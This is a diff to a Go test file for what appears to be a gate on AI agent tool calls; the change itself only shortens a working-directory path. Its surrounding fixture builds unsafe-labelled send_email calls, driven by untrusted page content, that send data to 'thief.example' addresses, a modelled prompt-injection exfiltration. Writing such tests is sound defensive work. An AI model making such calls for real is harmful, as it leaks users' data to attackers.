@@ -28,7 +28,7 @@ func recordedContexts(t *testing.T) []*contexts.Row {
 		r := contexts.Redact(&ctx)
 		c.Add(contexts.NewRow(contexts.Unsafe, &r, macro, contexts.Evidence{Episode: "e", Task: "t"}))
 	}
-	state := gates.State{Cwd: "/work", Roots: []string{"/work"}, UID: -1, GID: -1}
+	state := gates.State{Cwd: "/w", Roots: []string{"/w"}, UID: -1, GID: -1}
 	for i := range 8 {
 		x := sources{"untrusted", "get_page", "~"}
 		add("mail", gates.NewContext(gates.Call{Tool: "send_email", Args: fmt.Appendf(nil, `{"recipients":["x%d@thief.example"],"body":"b"}`, i), Sources: x}, state))
